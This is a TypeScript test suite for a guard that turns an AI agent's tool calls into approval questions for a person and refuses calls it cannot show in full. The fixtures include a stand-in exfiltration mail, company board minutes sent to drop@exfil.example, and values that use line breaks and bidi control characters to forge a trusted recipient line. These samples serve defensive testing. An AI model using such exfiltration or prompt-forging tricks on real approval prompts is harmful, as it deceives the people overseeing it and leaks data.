import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cutMiddle, maxPromptLength } from '../../src/guard/person-prompt.js';
import {
  createGuard,
  loadToolSchema,
  renderForPerson,
  restoreGuard,
  unwrap,
} from '../../src/index.js';

/**
 * C1: the question a person approves shows every argument a guard or rule constrains and
 * the call's target, whatever order and sizes the agent gives its arguments; each value
 * is cut on its own, in the middle, with a visible marker; the question is bounded; and a
 * call whose question cannot show all of those is refused, not asked.
 */

const runs = Number(process.env.SECURITY_PROPERTY_RUNS ?? 200);

function tools(list: readonly { name: string; properties: Record<string, unknown> }[]) {
  return unwrap(
    loadToolSchema(
      JSON.stringify({
        tools: list.map(({ name, properties }) => ({
          name,
          annotations: { destructiveHint: true },
          inputSchema: { type: 'object', properties, required: Object.keys(properties) },
        })),
      }),
    ),
  );
}

const mailSchema = tools([
  {
    name: 'send_mail',
    properties: { to: { type: 'string' }, subject: { type: 'string' }, body: { type: 'string' } },
  },
]);
const mailSpec = `confirm send_mail(to not matches /@acme-corp\\.example$/) because "mail leaves the company"
send_mail(subject contains "board minutes") -> Sent
Sent -> Done
`;

describe('C1: the approval question', () => {
  it("the review's reproduction: the recipient is shown, first, and the reason carries it", () => {
    const guard = createGuard(mailSpec, mailSchema, { now: new Date() });
    const subject = `Board minutes, June: ${'the points we agreed on and the follow-ups for each owner. '.repeat(9)}`;
    const d = guard.check({
      id: 'm1',
      name: 'send_mail',
      args: { subject, body: 'Attached.', to: 'drop@exfil.example' },
    });
    expect(d.action).toBe('ask');
    expect(d.prompt).toContain('drop@exfil.example');
    expect(d.prompt.startsWith('Run send_mail with to: "drop@exfil.example", subject: ')).toBe(
      true,
    );
    expect(
      d.prompt.endsWith(
        'body: "Attached."? Why: The spec asks the user to approve send_mail with to not matching /@acme-corp\\.example$/: mail leaves the company.',
      ),
    ).toBe(true);
    expect(d.verdict.reasons[0]).toMatchObject({
      code: 'guard-confirm',
      arguments: ['to'],
      actual: 'to = "drop@exfil.example"',
    });
    // The long subject is cut in its middle, with a marker; its start and end stay.
    expect(d.prompt).toMatch(
      /subject: "Board minutes, June: [^"]*…\[[\d,]+ characters not shown\]…[^"]*owner\. "/,
    );
  });

  it('a @confirm rule: its constrained argument and the target come before a long note', () => {
    const schema = tools([
      {
        name: 'pay',
        properties: {
          note: { type: 'string' },
          memo: { type: 'string' },
          payee: { type: 'string' },
          amount: { type: 'number' },
        },
      },
    ]);
    const guard = createGuard(
      '@confirm(financial, "Confirm the payment")\npay(amount <= 35) -> Paid\nPaid -> Done\n',
      schema,
      { now: new Date() },
    );
    const d = guard.check({
      id: 'p1',
      name: 'pay',
      args: { note: 'n'.repeat(5000), memo: 'm'.repeat(5000), payee: 'Mallory', amount: 35 },
    });
    expect(d.action).toBe('ask');
    expect(d.verdict.reasons[0]).toMatchObject({ code: 'rule-confirm', arguments: ['amount'] });
    expect(d.prompt.startsWith('Run pay with amount: 35, payee: "Mallory", note: "nnn')).toBe(true);
    expect(d.prompt).toMatch(/memo: "m+…\[[\d,]+ characters not shown\]…m+"/);
    expect(d.prompt.length).toBeLessThanOrEqual(maxPromptLength);
  });

  it('a constrained value cannot forge lines or reorder text: controls, bidi and line breaks are escaped', () => {
    const guard = createGuard(mailSpec, mailSchema, { now: new Date() });
    const d = guard.check({
      id: 'm2',
      name: 'send_mail',
      args: {
        to: 'drop@exfil.example\u2028  to: "boss@acme-corp.example"\u202e',
        subject: 'Board minutes',
        body: 'x\n  to: "ok@acme-corp.example"',
      },
    });
    expect(d.prompt).not.toMatch(/[\u2028\u2029\u202e\r\n]/);
    expect(d.prompt).toContain(
      ' with to: "drop@exfil.example\\u2028  to: \\"boss@acme-corp.example\\"\\u202e", subject: "Board minutes", body: "x\\n  to: \\"ok@acme-corp.example\\""? ',
    );
  });

  it('a constrained value longer than its room keeps its start and end around a marker', () => {
    const guard = createGuard(mailSpec, mailSchema, { now: new Date() });
    const to = `a@acme-corp.example, ${'x'.repeat(20_000)}, drop@exfil.example`;
    const d = guard.check({
      id: 'm3',
      name: 'send_mail',
      args: { to, subject: 'Board minutes', body: 'b' },
    });
    expect(d.prompt).toMatch(
      /^Run send_mail with to: "a@acme-corp\.example, x+…\[[\d,]+ characters not shown\]…x+, drop@exfil\.example", subject: /,
    );
    expect(d.prompt.length).toBeLessThanOrEqual(maxPromptLength);
  });

  it('fails closed: when the bounded question cannot show every constrained argument, nobody is asked', () => {
    const names = Array.from({ length: 60 }, (_, index) => `field${index}`);
    const schema = tools([
      {
        name: 'bulk',
        properties: Object.fromEntries(names.map((name) => [name, { type: 'string' }])),
      },
    ]);
    const spec = `confirm bulk(${names.map((name) => `${name} != "ok"`).join(', ')}) because "check each"\n@repeat\nbulk() -> Sent\nSent -> Done\n`;
    const guard = createGuard(spec, schema, { now: new Date() });
    const args = Object.fromEntries(names.map((name) => [name, 'v'.repeat(500)]));
    const d = guard.check({ id: 'b1', name: 'bulk', args });
    expect(d.verdict.decision).toBe('confirm');
    expect(d.action).toBe('refuse');
    expect(d.message).toContain('nobody was asked');
    // No approval can make it run, nor a restore from the journal.
    expect(guard.approve('b1', true).action).toBe('refuse');
    const restored = restoreGuard(spec, schema, guard.journal());
    expect(restored.decision('b1')?.action).toBe('refuse');
    expect(restored.approve('b1', true).action).toBe('refuse');
    // The same call with short values fits, and is asked as usual.
    const short = Object.fromEntries(names.map((name) => [name, 'v']));
    const few = guard.check({ id: 'b2', name: 'bulk', args: short });
    expect(few.action).toBe('ask');
    expect(few.prompt).toContain(', field59: "v"?');
  });

  it('property: for any order and sizes, the constrained and target arguments are all shown, and the question is bounded', () => {
    const names = ['to', 'cc_list', 'subject', 'body', 'footer', 'amount', 'note', 'tag'];
    const schema = tools([
      {
        name: 'send',
        properties: Object.fromEntries(
          names.map((name) => [name, { type: name === 'amount' ? 'number' : 'string' }]),
        ),
      },
    ]);
    const spec = `confirm send(to not matches /@acme\\.example$/, footer != "") because "outside"\n@repeat\nsend() -> Sent\nSent -> Done\n`;
    const text = fc.oneof(
      fc.string({ maxLength: 20 }),
      fc.integer({ min: 0, max: 20_000 }).map((size) => 'z'.repeat(size)),
      fc.string({ unit: 'binary', maxLength: 50 }),
    );
    fc.assert(
      fc.property(
        fc.shuffledSubarray(
          names.filter((name) => name !== 'amount' && name !== 'to' && name !== 'footer'),
          { minLength: names.length - 3 },
        ),
        fc.array(text, { minLength: names.length, maxLength: names.length }),
        fc.integer({ min: 0, max: 3 }),
        (order, values, position) => {
          const keys = [...order];
          for (const key of ['to', 'footer', 'amount'])
            keys.splice(position % (keys.length + 1), 0, key);
          const args: Record<string, unknown> = {};
          keys.forEach((key, index) => {
            args[key] = key === 'amount' ? index : `${values[index] ?? ''}@x.example`;
          });
          const guard = createGuard(spec, schema, { now: new Date() });
          const d = guard.check({ id: 'c', name: 'send', args });
          expect(d.action).toBe('ask');
          expect(d.prompt.length).toBeLessThanOrEqual(maxPromptLength);
          // An entry starts after `with ` or `, ` (a value's own quotes are escaped).
          const at = (key: string) => {
            const found = new RegExp(`(?:with |, )${key}: `).exec(d.prompt);
            return found ? found.index + found[0].length - key.length - 2 : -1;
          };
          // Constrained first (in the guard's order), then the targets, then the rest.
          expect(d.prompt.startsWith('Run send with to: ')).toBe(true);
          expect(at('to')).toBeLessThan(at('footer'));
          for (const target of ['cc_list', 'amount']) {
            expect(at('footer')).toBeLessThan(at(target));
            for (const other of ['subject', 'body', 'note', 'tag'])
              if (at(other) >= 0) expect(at(target)).toBeLessThan(at(other));
          }
          for (const key of ['to', 'footer', 'cc_list', 'amount']) {
            const shown = JSON.stringify(args[key]).replace(
              /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/gu,
              (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`,
            );
            const rest = d.prompt.slice(at(key) + key.length + 2);
            if (rest.startsWith(shown)) continue;
            // Cut in the middle: its start, a marker with the count, and its end.
            const match = /^([\s\S]*?)…\[([\d,]+) characters not shown\]…/u.exec(rest);
            expect(match).not.toBeNull();
            const [marker = '', head = '', count = '0'] = match ?? [];
            expect(shown.startsWith(head)).toBe(true);
            const end = shown.slice(head.length + Number(count.replace(/,/g, '')));
            expect(end.length).toBeGreaterThan(0);
            expect(rest.slice(marker.length).startsWith(end)).toBe(true);
          }
        },
      ),
      { numRuns: runs },
    );
  });

  it('cutMiddle keeps surrogate pairs whole and says how much it left out', () => {
    const text = '😀'.repeat(500);
    const cut = cutMiddle(text, 100);
    expect(cut.length).toBeLessThanOrEqual(100);
    expect(cut).not.toMatch(
      /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/,
    );
    const [, count = '0'] = /\[([\d,]+) characters not shown\]/.exec(cut) ?? [];
    const kept = cut.replace(/…\[[\d,]+ characters not shown\]…/, '');
    expect(kept.length).toBeGreaterThan(0);
    expect(Number(count.replace(/,/g, ''))).toBe(text.length - kept.length);
  });

  it('renderForPerson (public) gives the same question the guard asks', () => {
    const guard = createGuard(mailSpec, mailSchema, { now: new Date() });
    const args = { subject: 'Board minutes', body: 'b', to: 'drop@exfil.example' };
    const d = guard.check({ id: 'm4', name: 'send_mail', args });
    expect(renderForPerson('send_mail', args, d.verdict)).toBe(d.prompt);
  });
});
